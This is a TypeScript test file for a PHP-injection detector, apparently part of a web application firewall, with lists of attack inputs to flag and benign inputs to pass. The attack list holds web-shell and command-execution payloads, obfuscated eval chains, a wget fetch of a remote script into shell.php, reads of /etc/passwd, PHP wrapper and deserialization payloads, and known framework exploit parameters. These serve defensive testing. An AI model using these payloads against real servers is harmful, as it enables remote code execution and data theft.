import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding } from '../../finding.ts';
import { phpDetector as detector } from './php.ts';
import { cpuBestOf, detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'query', name: 'q' });
const bestOf = cpuBestOf;
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);
const FILE = { source: 'header', name: 'x-filename' } as const;

const attacks: [string, Partial<DetectorContext>][] = [
  // open tags
  ['<?php system($_GET["c"]); ?>', {}],
  ['<?PHP echo "hi"', {}],
  ['<? php echo 1', {}],
  ["<?\tpassthru('ls');", {}],
  ['<?= $secret ?>', {}],
  ['<?=1;echo 2;', {}],
  ["<?= 'x' ?>", {}],
  ['<?xml :system("id");', {}],
  ['<?xml  ();echo 1;', {}],
  ["<? exec('wget http://x.example/s.txt -O s.php');", {}],
  ['{php}echo 1;{/php}', {}],
  ['[php]readfile("/etc/passwd");[/php]', {}],
  ['echo "x";{/php}', {}],
  // calls
  ["system('cat /etc/passwd');", {}],
  ['system(whoami)', {}],
  ['eval($_POST["x"])', {}],
  ["x'); eval(base64_decode('ZWNobyAxOw==')); //", {}],
  ['base64_decode(', {}],
  ['shell_exec("id")', {}],
  ['passthru ("ls -la")', {}],
  ['exec /*comment*/ ("id")', {}],
  ['exec #c\n ("id")', {}],
  ['exec\t(blah)', {}],
  ['@eval($x);', {}],
  ['file_put_contents("shell.php", "<?php eval($_GET[1]);")', {}],
  ['call_user_func("assert", $_GET[1])', {}],
  ['array_map("system", array("id"))', {}],
  ['create_function("", $_GET["c"])', {}],
  ["preg_replace('/.*/e', $_GET['c'], '')", {}],
  ['phpinfo()', {}],
  ['eval(gzinflate(str_rot13(base64_decode("x"))))', {}],
  ['chr(112).chr(104).chr(112)', {}],
  ['FILE\n()', {}],
  // superglobals, variable functions, dynamic calls
  ["$_SERVER['HTTP_HOST'];", {}],
  ['$_GET[cmd]', {}],
  ['$_COOKIE', { isName: true }],
  ['$f = "system"; $f("id");', {}],
  ['$a(1)', {}],
  ['$_x(1)', {}],
  ['$___x(1)', {}],
  ['$$b(2)', {}],
  ["$__['o'](5)", {}],
  ['@$__[o](4)', {}],
  ['${@a}(10)', {}],
  ["$GLOBALS['x'](14)", {}],
  ['$OOO0000O0 (16)', {}],
  ["$_aB_4c[5]['d'] /*x*/ (17)", {}],
  ['$foo->$funcname()', {}],
  ['Foo::$variable()', {}],
  ['$a //x\n()', {}],
  ["${'ff'}", {}],
  ['$ {$a}', {}],
  ["(system)('uname');", {}],
  ["(sy.(st).em)('uname');", {}],
  ['(string)"system"(\'uname\');', {}],
  ['"sys"."t"."em" (\'uname\');', {}],
  ['[system][0](ls);', {}],
  ['[ system ] [ 0 ] ( ls );', {}],
  ["(['system'])[0]('uname');", {}],
  ['"system"(ls);', {}],
  ["$y = 'sys'.'tem';($y)('uname');", {}],
  ["define('x', 'sys' . 'tem');(x)('uname');", {}],
  // wrappers, serialization, ini
  ['php://filter/convert.base64-encode/resource=index.php', {}],
  ['php://input', {}],
  ['phar://uploads/avatar.jpg/x', {}],
  ['zip://archive.zip#shell.php', {}],
  ['expect://id', {}],
  ['data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==', {}],
  ['compress.zlib://http://x.example/a.gz', {}],
  ['glob://*.php', {}],
  ['ssh2.exec://user:pw@host:22/usr/bin/id', {}],
  ['O:8:"stdClass":1:{s:1:"a";i:2;}', {}],
  ['a:1:{i:0;O:9:"SomeClass":0:{}}', { source: 'cookie', name: 'prefs' }],
  ['O:+8:"stdClass":0:{}', {}],
  ['allow_url_include=1', {}],
  ['auto_prepend_file=php://input', {}],
  ['x\nauto_prepend_file = /tmp/x', {}],
  ['index.php/PHP_VALUE', { source: 'path', name: '' }],
  // uploads
  ['shell.php', FILE],
  ['a.php5...', FILE],
  ['photo. php', FILE],
  ['x.phtml ', FILE],
  ['avatar.phar', { source: 'body', name: 'filename' }],
  ['sess_d8ew88tqmabdcokhumchy8htqm', FILE],
  ['/tmp/sess_abc123def456ghi789jkl', FILE],
  ['call_user_func_array', { source: 'query', name: 'function' }], // ThinkPHP invokefunction
  ['system', { source: 'query', name: 'vars[callback]' }],
  ['create_function', { source: 'body', name: 'action' }],
  ['__construct', { source: 'body', name: '_method' }], // ThinkPHP 5: a magic method as the method to run
  ['mail[#post_render][]', { source: 'body', name: 'mail[#post_render][]', isName: true }], // Drupalgeddon 2
  ['shell.php\u0000.jpg', FILE], // a NUL byte ends the name where it is stored
  ['shell.php;.jpg', FILE],
  ['a;b.php', FILE],
];

const benign: [string, Partial<DetectorContext>][] = [
  ['$NOW(-7 days)', { source: 'query', name: 'filter[date_created][_gte]' }], // Directus's dynamic variables
  ['system', { source: 'query', name: 'filter' }], // a word, where the name does not say a function
  ['color[#fff]', { source: 'body', name: 'color[#fff]', isName: true }],
  ['$lowercase(AppImageConfigName) $OR AppImageConfigName', { source: 'body', name: 'transform' }], // JSONata
  ['$join([$string(Port), ":", Host])', { source: 'body', name: 'expression' }],
  // Grafana's SQL macros, in every panel query a dashboard sends
  ['SELECT $__timeGroupAlias(time, $__interval), avg(value) AS "value" FROM metrics WHERE $__timeFilter(time) GROUP BY 1', { source: 'body', name: 'rawSql' }],
  ['mail', { source: 'body', name: 'action' }],
  ['file_get_contents', { source: 'query', name: 'q' }], // a documentation search
  ['richard.php@my-email.com', {}],
  ['<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>', {}],
  ['<?xml-stylesheet type="text/xsl" href="style.xsl"?>', {}],
  ['<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>', {}],
  ['<?xphp system(1); ?>', {}],
  ['<? should not trigger', {}],
  ['Is this a test? What do you think?', {}],
  ['result = (x < 5) ? yes : no', {}],
  ['var x = (a < b) ? c : d; // <?test comment', {}],
  ['the files (yep)', {}],
  ['exec (', {}],
  ['executor()', {}],
  ['the system is down()', {}],
  ['ecosystem()', {}],
  ['systems()', {}],
  ['system something()', {}],
  ['A loaded ghost gun (unserialized) was recovered', {}],
  ['Moreover, phpinfo can leak configuration details.', {}],
  ['Please include (optional) notes', {}],
  ['Our system (v2) is great', {}],
  ['The file (attached) is big', {}],
  ['eval(', {}],
  ['eval', {}],
  ['It costs $5 (approx)', {}],
  ['$USD (dollars)', {}],
  ['Price: ${price}', {}],
  ["$('#menu').toggle()", {}],
  ["{{ $t('welcome') }}", {}],
  ['this.$emit("save", item)', {}],
  ['(foo)bar or foo(bar) or [foo]bar or foo[bar]', {}],
  ['x=(foo)/(bar)', { source: 'cookie', name: 'x' }],
  ['this is a "dog" (not a cat)', {}],
  ['$a#foo()', {}],
  ['$a//foo()', {}],
  ['$a[]()', {}],
  ['${}()', {}],
  ['$a{}()', {}],
  ['lz77://some_file.lz', {}],
  ['https://example.com/page.php?id=1', {}],
  ['Order: 8:30 "Anna": 2 items', {}],
  ['precision=2', { source: 'query', name: 'q' }],
  ['document.pdf', FILE],
  ['my_sess_data.txt', FILE],
  ['session_report.txt', FILE],
  ['sess_short', FILE],
  ['report.php', { source: 'query', name: 'page' }],
  ['safe.phpinfo', FILE],
  ['I used print_r() to debug it', {}],
  ['See the [Assert](#values-assert) and [Create](#values-create) sections', {}],
  ['type K = `prop${\'A\'|\'B\'}`', {}],
  ['console.log(`done: ${key} (${size} total)`)', {}],
  ["const colors = require('@colors/colors');", {}],
  ['use the substr function', {}],
];

test('PHP injections are found at paranoia 1', () => {
  for (const [value, ctx] of attacks) {
    const fs = pl1(run(value, ctx));
    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
    for (const f of fs) {
      assert.equal(f.category, 'php');
      assert.equal(f.score, 5);
      assert.ok(f.matched.length <= 120);
    }
  }
});

test('prose, XML, JS and ordinary file names give nothing at paranoia 1', () => {
  for (const [value, ctx] of benign) assert.deepEqual(pl1(run(value, ctx)), [], `false positive: ${JSON.stringify(value)}`);
});

test('weaker PHP signals are paranoia 2/3', () => {
  for (const [v, ctx] of [['<?php', {}], ['a:2:{i:0;s:1:"a";i:1;s:1:"b";}', {}], ['engine=true', {}], ['test.php.jpg', FILE], ['$     {   CONSTANT   }', {}], ['array_diff($a, $b) is handy', {}]] as [string, Partial<DetectorContext>][]) {
    const fs = run(v, ctx);
    assert.ok(fs.length > 0, `missed: ${v}`);
    assert.deepEqual(pl1(fs), [], `should be above paranoia 1: ${v}`);
  }
});

test('linear time; never throws', () => {
  for (let i = 0; i < 3000; i++) {
    let s = '';
    for (let j = 0; j < 30; j++) s += "<?php$_GET[]()'\".system:O8{}=/#*\n"[Math.floor(Math.random() * 35)] ?? '';
    run(s);
    run(s, FILE);
  }
  const inputs = [
    'A normal sentence (with parentheses) and some $5 prices; system-wide = fine. '.repeat(2700),
    '('.repeat(200000),
    ')('.repeat(100000),
    "')(".repeat(60000),
    '$a'.repeat(100000),
    '$a['.repeat(60000),
    '${'.repeat(100000),
    '<?'.repeat(100000),
    '='.repeat(200000),
    'a='.repeat(100000),
    'O:1:"'.repeat(40000),
    "'a'.".repeat(50000),
    'system('.repeat(28000),
    '/*'.repeat(100000),
    '#'.repeat(200000),
    '://'.repeat(60000),
  ];
  for (const v of inputs) {
    const ms = bestOf(() => { run(v); });
    assert.ok(ms < 250, `slow ${ms.toFixed(1)} ms on ${JSON.stringify(v.slice(0, 12))}`);
  }
});

// `.php` with a version number (`.php56`, `.php907`) is run as PHP by handlers that match `\.php[0-9]*$`.
const versionedExtensionCases: [string, boolean][] = [
  ['shell.php56', true],
  ['up/x.php907....', true],
  ['x.PHP10 ', true],
  ['php8-release-notes.pdf', false],
  ['phpinfo.txt', false],
  ['a.phpx', false],
  ['archive.php123456789', false], // not a version number
];

test('versioned PHP extensions in upload file names', () => {
  for (const [value, hit] of versionedExtensionCases) {
    assert.equal(pl1(run(value, FILE)).length > 0, hit, JSON.stringify(value));
  }
  assert.deepEqual(pl1(run('shell.php56')), [], 'a value that is not a file name field');
});
